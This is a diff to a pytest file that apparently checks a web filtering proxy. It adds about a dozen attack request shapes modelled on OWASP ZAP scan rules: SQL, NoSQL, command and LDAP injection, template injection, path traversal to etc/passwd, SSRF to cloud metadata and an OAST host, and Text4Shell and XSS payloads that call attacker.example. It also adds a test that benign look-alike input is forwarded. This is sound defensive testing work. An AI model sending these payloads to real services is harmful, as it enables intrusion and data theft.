@@ -76,7 +76,32 @@ ATTACKS = {
 }
 
 
-@pytest.mark.parametrize("request_kwargs", ATTACKS.values(), ids=ATTACKS.keys())
+ZAP_ATTACKS = {
+    "sqli_pg_sleep_after_quote_in_query": {"method": "GET", "url": "/orders",
+                                           "params": {"q": "shoes' / case when cast(pg_sleep(3) as text) > '' then 1 "
+                                                           "end / '"}},
+    "sqli_waitfor_after_word_in_form": {"method": "POST", "url": "/orders", "data": {"note": "shoes WAITFOR DELAY "
+                                                                                              "'0:0:3' -- "}},
+    "sqli_sort_then_comment_in_query": {"method": "GET", "url": "/orders", "params": {"sort": "price desc -- "}},
+    "cmdi_powershell_in_json": {"method": "POST", "url": "/orders", "json": {"note": "x';Start-Sleep -s 3 #"}},
+    "ssti_single_brace_in_cookie": {"method": "GET", "url": "/orders", "headers": {"cookie": "prefs=ab{1337*1337}ab"}},
+    "jndi_text4shell_in_header": {"method": "GET", "url": "/orders",
+                                  "headers": {"x-client-ref": "${url:UTF-8:https://attacker.example/x}"}},
+    "nosqli_where_sleep_in_json": {"method": "POST", "url": "/orders", "json": {"user": "abc\"); sleep(3); print(\""}},
+    "traversal_relative_file_in_query": {"method": "GET", "url": "/files", "params": {"name": "etc/passwd"}},
+    "proto_spring_class_loader_in_query_name": {"method": "GET", "url": "/orders",
+                                                "params": {"class.module.classLoader.DefaultAssertionStatus": "x"}},
+    "ssrf_oob_host_in_json": {"method": "POST", "url": "/webhooks", "json": {"target": "https://x1.oast.fun/"}},
+    "ssrf_metadata_host_header": {"method": "GET", "url": "/latest/meta-data/", "headers": {"host": "169.254.169.254"}},
+    "xss_src_attribute_breakout_in_form": {"method": "POST", "url": "/orders",
+                                           "data": {"note": "\" src=https://attacker.example/x.js"}},
+    "ldapi_metacharacter_probe_in_query": {"method": "GET", "url": "/people", "params": {"cn": "=~=>=<=*(),|!<>+-"}},
+}
+"""Shapes OWASP ZAP's active scan rules send (split fresh5), one per rule added for them."""
+ALL_ATTACKS = {**ATTACKS, **ZAP_ATTACKS}
+
+
+@pytest.mark.parametrize("request_kwargs", ALL_ATTACKS.values(), ids=ALL_ATTACKS.keys())
 def test_attack_is_blocked_and_not_forwarded(base_url: str, upstream: RecordingUpstream,
                                              request_kwargs: dict[str, object]) -> None:
     before = len(upstream.requests)
@@ -89,6 +114,16 @@ def test_attack_is_blocked_and_not_forwarded(base_url: str, upstream: RecordingU
     for needle in ("jndi", "svg", "169.254", "$ne", "passwd", "1'='1"):
         assert needle not in response.text
     assert len(upstream.requests) == before
+
+
+def test_zap_benign_hard_cases_are_forwarded(base_url: str, upstream: RecordingUpstream) -> None:
+    body = (b'{"description": "Ref 0042; select \'Bank transfer\' at checkout", "sort": "created_at desc",'
+            b' "snippet": "```python\\ncur.execute(\\"SELECT id FROM t\\")\\n```", "greeting": "Hi {name}, {1+1}",'
+            b' "callback_url": "http://requestb.in/1234abcd", "default": "${url:-http://localhost:8080}"}')
+    response = httpx.post(base_url + "/orders", content=body, timeout=5,
+                          headers={"content-type": "application/json", "x-forwarded-host": "10.0.0.5:8080"})
+    assert response.status_code == 200, response.text
+    assert upstream.requests[-1].body == body
 
 
 def test_benign_hard_cases_are_forwarded_unchanged(base_url: str, upstream: RecordingUpstream) -> None:
